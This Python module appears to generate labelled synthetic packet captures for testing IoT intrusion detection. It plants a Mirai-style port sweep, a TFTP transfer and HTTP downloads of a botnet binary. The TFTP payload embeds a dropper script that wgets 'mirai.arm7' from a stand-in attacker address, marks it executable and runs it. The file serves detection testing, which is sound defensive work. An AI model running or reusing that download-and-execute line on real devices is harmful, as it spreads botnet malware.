"""Planted behaviours for lateral_movement and cleartext_fetch (pcaps/scenarios.py calls plant() at the end of
mixed()): a camera sweeping its neighbours' telnet and web ports, a TFTP read request for a shell script from a
server in another private subnet, and HTTP downloads of a per-architecture binary from the Internet and of a
script from a core host.

Only CAMERAS[10] (after start+260), CAMERAS[11] (after start+510) and CAMERAS[12] (after start+710) act here; the
sweep's targets answer as cameras do (RST on a closed telnet port, SYN-ACK on their web port), and never the
benign cameras [2], [13], [14].
"""

from __future__ import annotations

import struct
from collections.abc import Callable

from generate import Host, Scene
from packets import tcp

SWEPT = (0, 1, 3, 4, 5, 6, 7, 8, 9, 11)    # ten cameras of the VLAN, none of the benign ones
TELNET_FILTERED = (0, 1)                   # these two drop telnet silently; the rest answer RST


def plant(scene: Scene, start: float, label: Callable[..., None]) -> None:
    from scenarios import CAMERAS, GATEWAY  # here, not at import: scenarios imports this module

    _sweep(scene, start + 300, CAMERAS[10], [CAMERAS[i] for i in SWEPT], label)
    _tftp_script(scene, start + 560, CAMERAS[11], Host("192.168.77.10", GATEWAY.mac), label)
    _http_binary(scene, start + 760, CAMERAS[12], Host("198.51.100.66", GATEWAY.mac), label)
    _http_script_from_core(scene, start + 830, CAMERAS[12], Host("10.50.7.7", GATEWAY.mac), label)


def _sweep(scene: Scene, t: float, cam: Host, targets: list[Host], label: Callable[..., None]) -> None:
    """telnet then HTTP on each of ten neighbours, one every 1.9 s (18 s in all), as a Mirai-style scanner: a SYN,
    whatever comes back, a RST to close a half-open connection."""
    for k, (index, target) in enumerate(zip(SWEPT, targets, strict=True)):
        ts = t + 1.9 * k
        port = 51000 + 2 * k
        scene.ip_packet(ts, cam, target, 6, tcp(cam.ip, target.ip, port, 23, 9000 + k, 0, "S"))
        if index not in TELNET_FILTERED:
            scene.ip_packet(ts + 0.002, target, cam, 6, tcp(target.ip, cam.ip, 23, port, 0, 9001 + k, "RA"))
        scene.ip_packet(ts + 0.4, cam, target, 6, tcp(cam.ip, target.ip, port + 1, 80, 7000 + k, 0, "S"))
        scene.ip_packet(ts + 0.402, target, cam, 6, tcp(target.ip, cam.ip, 80, port + 1, 300 + k, 7001 + k, "SA"))
        scene.ip_packet(ts + 0.404, cam, target, 6, tcp(cam.ip, target.ip, port + 1, 80, 7001 + k, 0, "R"))
    label("lateral-sweep", "lateral_movement", cam, None, t, t + 1.9 * (len(targets) - 1) + 0.5)


def _tftp_script(scene: Scene, t: float, cam: Host, server: Host, label: Callable[..., None]) -> None:
    """RRQ for a shell script (netascii, with an RFC 2347 option), two DATA blocks from the server's transfer port,
    each acknowledged."""
    request = b"\x00\x01" + b"/pub/.x/update.sh\x00netascii\x00tsize\x000\x00"
    scene.udp(t, cam, 41069, server, 69, request)
    script = (b"#!/bin/sh\ncd /tmp || cd /var/run\nwget http://198.51.100.66/bins/mirai.arm7 -O .d\n"
              b"chmod +x .d\n./.d camera\n").ljust(612, b"#")
    for block, data in enumerate((script[:512], script[512:]), start=1):
        ts = t + 0.05 * block
        scene.udp(ts, server, 50612, cam, 41069, struct.pack("!HH", 3, block) + data)
        scene.udp(ts + 0.01, cam, 41069, server, 50612, struct.pack("!HH", 4, block))
    label("tftp-script", "cleartext_fetch", cam, server.ip, t, t + 0.2)


def _http_binary(scene: Scene, t: float, cam: Host, server: Host, label: Callable[..., None]) -> None:
    """wget of a botnet binary named for its CPU, from an address on the Internet."""
    request = (b"GET /bins/mirai.arm7 HTTP/1.0\r\nUser-Agent: Wget(linux)\r\nHost: 198.51.100.66\r\n"
               b"Connection: close\r\n\r\n")
    body = b"\x7fELF\x01\x01\x01" + bytes(1200)
    reply = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 1207\r\n\r\n" + body
    scene.tcp_session(t, cam, 47321, server, 80, [(0.0, True, request), (0.08, False, reply)], close_at=0.5,
                      client_mac=cam.mac)
    label("http-binary", "cleartext_fetch", cam, server.ip, t, t + 0.5, ["egress_policy", "new_destination"])


def _http_script_from_core(scene: Scene, t: float, cam: Host, server: Host, label: Callable[..., None]) -> None:
    """A script fetched from a web server in a core network (port 8080, query string and mixed case)."""
    request = (b"GET /tools/Provision.SH?id=cam12&t=1 HTTP/1.1\r\nHost: deploy.corp.example:8080\r\n"
               b"User-Agent: curl/7.29.0\r\nAccept: */*\r\n\r\n")
    reply = b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n#!/bin/sh\necho provisioned > /tmp/.p\n\n\n"
    scene.tcp_session(t, cam, 47400, server, 8080, [(0.0, True, request), (0.05, False, reply)], close_at=0.4,
                      client_mac=cam.mac)
    label("http-script-core", "cleartext_fetch", cam, server.ip, t, t + 0.4, ["segmentation", "new_destination"])
